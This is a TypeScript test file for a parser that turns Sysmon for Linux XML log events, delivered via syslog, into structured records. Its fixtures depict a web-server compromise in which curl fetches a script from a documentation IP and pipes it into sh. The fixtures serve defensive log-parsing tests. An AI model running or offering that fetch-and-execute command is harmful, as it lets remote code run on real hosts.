import { parseLogLine } from './parse-log-line';
import { parseSyslogLine } from './parse-syslog-line';
import { extractSysmonLinuxEvent, looksLikeSysmonLinuxEvent } from './sysmon-linux';

/**
 * No Sysmon for Linux sample exists under ../shared/data, so these lines are written in the exact
 * shape Microsoft's SysmonForLinux produces: `outputxml.cpp` (FormatSyslogString: the System
 * elements in this order, pugixml `format_raw | format_no_declaration`, so no whitespace and no
 * XML declaration), the EventData names and order of its manifest for ProcessCreate (1),
 * NetworkConnect (3) and FileCreate (11), `openlog("sysmon", LOG_NOWAIT, LOG_USER)` for the tag
 * and facility (user.info: PRI 14). Host names, paths and addresses are our own.
 */
const system = (eventId: number, version: number, recordId: number, time: string): string =>
  `<System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${eventId}</EventID>` +
  `<Version>${version}</Version><Level>4</Level><Task>${eventId}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>` +
  `<TimeCreated SystemTime="${time}"/><EventRecordID>${recordId}</EventRecordID><Correlation/>` +
  `<Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>srv-web01</Computer>` +
  `<Security UserId="0"/></System>`;
const data = (fields: [string, string][]): string => `<EventData>${fields.map(([name, value]) => `<Data Name="${name}">${value}</Data>`).join('')}</EventData>`;

const processCreate =
  `<Event>${system(1, 5, 40211, '2026-11-30T08:14:02.514877000Z')}` +
  data([
    ['RuleName', '-'],
    ['UtcTime', '2026-11-30 08:14:02.512'],
    ['ProcessGuid', '{5a1d3f0e-a2ba-674a-c8e1-9d3c1a560000}'],
    ['ProcessId', '28904'],
    ['Image', '/usr/bin/curl'],
    ['FileVersion', '-'],
    ['Description', '-'],
    ['Product', '-'],
    ['Company', '-'],
    ['OriginalFileName', '-'],
    ['CommandLine', 'curl -s http://198.51.100.23/x.sh -o /tmp/x.sh &amp;&amp; sh /tmp/x.sh &lt;/dev/null'],
    ['CurrentDirectory', '/var/www/html'],
    ['User', 'www-data'],
    ['LogonGuid', '{5a1d3f0e-0000-0000-2100-000000000000}'],
    ['LogonId', '33'],
    ['TerminalSessionId', '4294967295'],
    ['IntegrityLevel', 'no level'],
    ['Hashes', '-'],
    ['ParentProcessGuid', '{5a1d3f0e-a2b9-674a-0c5e-b1f0c8550000}'],
    ['ParentProcessId', '28903'],
    ['ParentImage', '/usr/bin/dash'],
    ['ParentCommandLine', 'sh -c curl'],
    ['ParentUser', 'www-data'],
  ]) +
  '</Event>';

const networkConnect =
  `<Event>${system(3, 5, 40212, '2026-11-30T08:14:02.601113000Z')}` +
  data([
    ['RuleName', '-'],
    ['UtcTime', '2026-11-30 08:14:02.598'],
    ['ProcessGuid', '{5a1d3f0e-a2ba-674a-c8e1-9d3c1a560000}'],
    ['ProcessId', '28904'],
    ['Image', '/usr/bin/curl'],
    ['User', 'www-data'],
    ['Protocol', 'tcp'],
    ['Initiated', 'true'],
    ['SourceIsIpv6', 'false'],
    ['SourceIp', '10.20.30.40'],
    ['SourceHostname', '-'],
    ['SourcePort', '51544'],
    ['SourcePortName', '-'],
    ['DestinationIsIpv6', 'false'],
    ['DestinationIp', '198.51.100.23'],
    ['DestinationHostname', '-'],
    ['DestinationPort', '80'],
    ['DestinationPortName', '-'],
  ]) +
  '</Event>';

const fileCreate =
  `<Event>${system(11, 2, 40213, '2026-11-30T08:14:02.640020000Z')}` +
  data([
    ['RuleName', '-'],
    ['UtcTime', '2026-11-30 08:14:02.637'],
    ['ProcessGuid', '{5a1d3f0e-a2ba-674a-c8e1-9d3c1a560000}'],
    ['ProcessId', '28904'],
    ['Image', '/usr/bin/curl'],
    ['TargetFilename', '/tmp/x.sh'],
    ['CreationUtcTime', '2026-11-30 08:14:02.637'],
    ['User', 'www-data'],
  ]) +
  '</Event>';

const now = new Date('2026-12-01T00:00:00Z');
const syslogLine = (xml: string): string => `<14>Nov 30 08:14:02 srv-web01 sysmon: ${xml}`;

describe(extractSysmonLinuxEvent.name, () => {
  it('reads a ProcessCreate event: linux.sysmon, code 1, every EventData field verbatim, ECS process and user', () => {
    const document = extractSysmonLinuxEvent(processCreate);
    expect(document).toMatchObject({
      '@timestamp': '2026-11-30T08:14:02.514877000Z',
      event: {
        module: 'linux',
        dataset: 'linux.sysmon',
        kind: 'event',
        code: '1',
        provider: 'Linux-Sysmon',
        category: ['process'],
        type: ['start'],
        action: 'process-created',
      },
      host: { name: 'srv-web01' },
      user: { name: 'www-data' },
      process: {
        pid: 28904,
        executable: '/usr/bin/curl',
        name: 'curl',
        command_line: 'curl -s http://198.51.100.23/x.sh -o /tmp/x.sh && sh /tmp/x.sh </dev/null',
        working_directory: '/var/www/html',
        parent: { executable: '/usr/bin/dash', name: 'dash', command_line: 'sh -c curl', pid: 28903 },
      },
      winlog: {
        event_id: '1',
        channel: 'Linux-Sysmon/Operational',
        provider_name: 'Linux-Sysmon',
        provider_guid: '{ff032593-a8d3-4f13-b0d6-01fc615a0f97}',
        computer_name: 'srv-web01',
        record_id: '40211',
        version: '5',
        task: '1',
        opcode: '0',
        process: { pid: 812 },
        user: { identifier: '0' },
      },
    });
    const eventData = (document?.winlog as { event_data: Record<string, string> }).event_data;
    expect(Object.keys(eventData)).toHaveLength(23);
    expect(eventData).toMatchObject({
      RuleName: '-',
      Image: '/usr/bin/curl',
      CommandLine: 'curl -s http://198.51.100.23/x.sh -o /tmp/x.sh && sh /tmp/x.sh </dev/null',
      User: 'www-data',
      LogonId: '33',
      IntegrityLevel: 'no level',
      Hashes: '-',
      ParentImage: '/usr/bin/dash',
    });
  });

  it('reads a NetworkConnect event into source, destination and transport', () => {
    expect(extractSysmonLinuxEvent(networkConnect)).toMatchObject({
      event: { dataset: 'linux.sysmon', code: '3', category: ['network'], type: ['connection', 'start'] },
      source: { address: '10.20.30.40', ip: '10.20.30.40', port: 51544 },
      destination: { address: '198.51.100.23', ip: '198.51.100.23', port: 80 },
      network: { transport: 'tcp' },
      winlog: { event_data: { Initiated: 'true', DestinationIp: '198.51.100.23', DestinationPort: '80', DestinationHostname: '-' } },
    });
  });

  it('reads a FileCreate event into file.path and file.name', () => {
    expect(extractSysmonLinuxEvent(fileCreate)).toMatchObject({
      event: { code: '11', category: ['file'], type: ['creation'] },
      file: { path: '/tmp/x.sh', name: 'x.sh' },
      winlog: { event_data: { TargetFilename: '/tmp/x.sh', CreationUtcTime: '2026-11-30 08:14:02.637' } },
    });
  });

  it('unescapes the references pugixml writes (&amp; &lt; &gt; and &#N; for control characters) and keeps empty fields', () => {
    const xml = processCreate
      .replace(
        '<Data Name="CommandLine">curl -s http://198.51.100.23/x.sh -o /tmp/x.sh &amp;&amp; sh /tmp/x.sh &lt;/dev/null</Data>',
        '<Data Name="CommandLine">printf &quot;a&#9;b&quot; &gt; /tmp/o</Data>',
      )
      .replace('<Data Name="ParentCommandLine">sh -c curl</Data>', '<Data Name="ParentCommandLine"></Data>');
    const eventData = (extractSysmonLinuxEvent(xml)?.winlog as { event_data: Record<string, string> }).event_data;
    expect(eventData.CommandLine).toBe('printf "a\tb" > /tmp/o');
    expect(eventData.ParentCommandLine).toBe('');
  });

  it('refuses anything that departs from the shape: truncated, unknown entity, foreign element, trailing text, a name twice', () => {
    expect(extractSysmonLinuxEvent(processCreate.slice(0, 900))).toBeUndefined();
    expect(extractSysmonLinuxEvent(processCreate.replace('&amp;&amp;', '&and;'))).toBeUndefined();
    expect(extractSysmonLinuxEvent(processCreate.replace('<Data Name="Hashes">-</Data>', '<Data Name="Hashes"><b>-</b></Data>'))).toBeUndefined();
    expect(extractSysmonLinuxEvent(processCreate.replace('<Data Name="Hashes">', '<Field Name="Hashes">'))).toBeUndefined();
    expect(extractSysmonLinuxEvent(`${processCreate} and more`)).toBeUndefined();
    expect(extractSysmonLinuxEvent(processCreate.replace('<Data Name="Hashes">-</Data>', '<Data Name="Image">/bin/true</Data>'))).toBeUndefined();
    expect(extractSysmonLinuxEvent(processCreate.replace('<EventID>1</EventID>', '<EventID>x</EventID>'))).toBeUndefined();
  });

  it('tells Sysmon for Linux events by their first bytes only', () => {
    expect(looksLikeSysmonLinuxEvent(processCreate)).toBe(true);
    expect(looksLikeSysmonLinuxEvent('<Event><System><Provider Name="Microsoft-Windows-Sysmon"/>')).toBe(false);
    expect(looksLikeSysmonLinuxEvent('Accepted password for root from 192.0.2.1 port 22 ssh2')).toBe(false);
  });
});

describe('Sysmon for Linux through the syslog front doors', () => {
  it('parses a sysmon syslog line into linux.sysmon with the event time of TimeCreated', () => {
    const parsed = parseSyslogLine(syslogLine(processCreate), { now });
    expect(parsed.ok).toBe(true);
    if (!parsed.ok) return;
    expect(parsed.event).toMatchObject({
      '@timestamp': '2026-11-30T08:14:02.514877000Z',
      event: { module: 'linux', dataset: 'linux.sysmon', code: '1' },
      host: { hostname: 'srv-web01', name: 'srv-web01' },
      process: { executable: '/usr/bin/curl', pid: 28904 },
      message: processCreate,
      winlog: { event_data: { Image: '/usr/bin/curl' } },
    });
  });

  it('parses the same line read from a file (parseLogLine, format auto)', () => {
    const parsed = parseLogLine(`Nov 30 08:14:02 srv-web01 sysmon: ${fileCreate}`, { now });
    expect(parsed.ok && parsed.event).toMatchObject({ event: { dataset: 'linux.sysmon', code: '11' }, file: { path: '/tmp/x.sh' } });
  });

  it('leaves a line cut short by a syslog size limit an ordinary linux.syslog line, its text kept', () => {
    const parsed = parseSyslogLine(syslogLine(processCreate.slice(0, 1024)), { now });
    expect(parsed.ok && parsed.event).toMatchObject({ event: { dataset: 'linux.syslog' }, message: processCreate.slice(0, 1024) });
    expect(parsed.ok && (parsed.event as { winlog?: unknown }).winlog).toBeUndefined();
  });
});
